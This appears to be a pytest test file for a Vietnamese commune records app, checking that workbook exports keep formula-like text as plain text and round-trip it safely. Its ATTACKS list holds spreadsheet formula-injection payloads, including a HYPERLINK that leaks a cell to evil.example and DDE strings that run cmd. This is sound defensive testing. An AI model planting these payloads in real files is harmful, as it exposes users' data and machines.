"""Formula-safe exports: a text that begins like a formula is written as text by every workbook the app makes,
opens as text in LibreOffice, and imports back as the same text."""

from __future__ import annotations

import re
import shutil
import subprocess
import zipfile
from datetime import date
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+84 912 345 678",
    "-5 người tham gia",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


# What officers type: ASCII, Vietnamese letters and the punctuation of formulas and links (a text the domain
# would refuse for other reasons, e.g. as legacy TCVN3, is not the point here).
ALPHABET = (
    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 !\"#$%&'()*+,-./:;<=>?@[]^_{|}~"
    "ăâđêôơưĂÂĐÊÔƠƯáàảãạắằẳẵặấầẩẫậéèẻẽẹếềểễệíìỉĩịóòỏõọốồổỗộớờởỡợúùủũụứừửữựýỳỷỹỵ"
)


def _formula_cells(path: Path) -> list[str]:
    """Every <f> element in every sheet of the workbook (none may be there)."""
    found = []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(rb"<(?:\w+:)?f[\s>/]", zf.read(name))
    return found


def _add(db, titles):
    from commune_desk.domain.propaganda import PropagandaActivity
    from tests.propaganda import propaganda_repo

    repo = propaganda_repo(db, "t", today=lambda: date(2026, 11, 20))
    for i, title in enumerate(titles):
        repo.add(
            PropagandaActivity(
                activity_date=date(2026, 3, 1 + i % 27),
                form_code="loa",
                title=title,
                participants=3,
                organiser=title,
                note=title,
            )
        )


def _titles(db) -> list[str]:
    from tests.propaganda import propaganda_repo

    return sorted(r.title for r in propaganda_repo(db, "t").list())


def _round_trip(db, tmp: Path) -> list[str]:
    from commune_desk.services.records.records_new_db import import_into_new_database
    from commune_desk.services.records.records_workbook import export_records
    from commune_desk.storage.database import open_database

    book = tmp / "export.xlsx"
    export_records(db, book)
    assert _formula_cells(book) == []
    fresh = tmp / "fresh.db"
    import_into_new_database(fresh, None, book, "t", today=date(2026, 11, 20))
    other = open_database(fresh)
    try:
        return _titles(other)
    finally:
        other.dispose()


def test_attack_texts_export_as_text_and_come_back_the_same(demo_db, tmp_path):
    _add(demo_db, ATTACKS)
    assert _round_trip(demo_db, tmp_path) == _titles(demo_db)


def _storable(db, titles: list[str]) -> list[str]:
    """The titles the propaganda form would keep: a refusal may only be the legacy-encoding rule."""
    from commune_desk.domain.errors import ValidationFailed

    kept = []
    for title in titles:
        try:
            _add(db, [title])
        except ValidationFailed as exc:
            assert {p.where for p in exc.problems} <= {"title", "organiser", "note"}, exc
            assert all("legacy" in p.message for p in exc.problems), exc
        else:
            kept.append(title)
    return kept


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(
        st.tuples(st.sampled_from(["=", "+", "-", "@"]), st.text(alphabet=ALPHABET, min_size=1, max_size=30)),
        min_size=1,
        max_size=4,
    )
)
def test_any_text_starting_like_a_formula_round_trips(tmp_path_factory, pairs):
    """Whatever the form keeps comes back through export and import as the same text (the form and the import
    apply one legacy-encoding rule)."""
    from commune_desk.services.demo_data.demo import create_demo
    from commune_desk.storage.database import open_database

    tmp = tmp_path_factory.mktemp("rt")
    db = open_database(tmp / "c.db")
    try:
        create_demo(db, year=2026, seed=3, force=False, actor="t", today=date(2026, 11, 20))
        _storable(db, [t for t in ((p + t).strip() for p, t in pairs) if t])
        assert _round_trip(db, tmp) == _titles(db)
    finally:
        db.dispose()


def test_form_and_import_judge_legacy_looking_text_alike(demo_db, tmp_path):
    """Regression (was xfail): '=é[Oâ0' and '=Eô' were kept by the propaganda form and refused by the import of
    the app's own export ("looks like text in the legacy VNI encoding"), while '=EÔ' passed both; the case of the
    letters decided. Now the form refuses what the import refuses, whatever the case, and the rest round-trips."""
    from commune_desk.domain.records.legacy import legacy_encoding

    for text in ("=Eô", "=EÔ", "=é[Oâ0", "=É[OÂ0", "Thoân"):
        assert legacy_encoding(text) == "VNI", text
    assert _storable(demo_db, ["=Eô", "=EÔ", "=é[Oâ0", "=Hoàng Văn Thụ", "-Nguyễn Thị Quỳnh", "+Khuê"]) == [
        "=Hoàng Văn Thụ",
        "-Nguyễn Thị Quỳnh",
        "+Khuê",
    ]
    assert _round_trip(demo_db, tmp_path) == _titles(demo_db)


def test_every_app_workbook_keeps_risky_text_as_text(demo_db, tmp_path, qapp):
    """The report's annex (it goes into the signed package), the plan workbook, a list export. (`qapp`: the
    report's chart draws with QtGui; pytest-qt's application, never a bare QGuiApplication in the test process.)"""
    from commune_desk.domain.periods import Period
    from commune_desk.services.plans.plan_template import write_plan_workbook
    from commune_desk.services.reports.report_service import generate
    from commune_desk.storage.plan_repo import PlanRepository
    from commune_desk.ui.export import export_rows
    from tests.plans.helpers import simple_plan

    plan = simple_plan(2026)
    target = plan.targets[0]
    from dataclasses import replace

    plan = replace(plan, targets=(replace(target, text=ATTACKS[0]),), title=ATTACKS[1])
    PlanRepository(demo_db, "t").store(plan, source_name="plan.xlsx")
    files = generate(demo_db, Period.parse("2026-Q3"), tmp_path / "report", day=date(2026, 10, 5), actor="t")
    written = [
        files.xlsx,
        write_plan_workbook(tmp_path / "plan.xlsx", plan),
        export_rows(tmp_path / "list.xlsx", "Tuyên truyền", ["Tiêu đề", "Số"], [[a, 1] for a in ATTACKS]),
    ]
    import openpyxl

    for path in written:
        assert _formula_cells(path) == [], path
        wb = openpyxl.load_workbook(path)
        texts = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
        assert {ATTACKS[0]} <= texts or path == written[0] and any(ATTACKS[0] in t for t in texts), path
    annex = openpyxl.load_workbook(files.xlsx)
    assert any(ATTACKS[0] == c.value for ws in annex.worksheets for row in ws.iter_rows() for c in row)


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_the_export_without_evaluating_anything(demo_db, tmp_path):
    """LibreOffice (headless) converts the export to CSV (every sheet): each attack text is there as text,
    nothing computed."""
    from commune_desk.services.records.records_workbook import export_records

    _add(demo_db, ATTACKS)
    book = tmp_path / "export.xlsx"
    export_records(demo_db, book)
    profile = tmp_path / "lo-profile"
    r = subprocess.run(
        [
            "soffice",
            "--headless",
            "--norestore",
            f"-env:UserInstallation=file://{profile}",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
            "--outdir",
            str(tmp_path),
            str(book),
        ],
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert r.returncode == 0, r.stderr
    csv_files = sorted(tmp_path.glob("export*.csv"))
    text = "\n".join(p.read_text(encoding="utf-8", errors="replace") for p in csv_files)
    for attack in ATTACKS:
        assert attack.replace('"', '""') in text, attack
    assert "#NAME?" not in text and "Err:" not in text
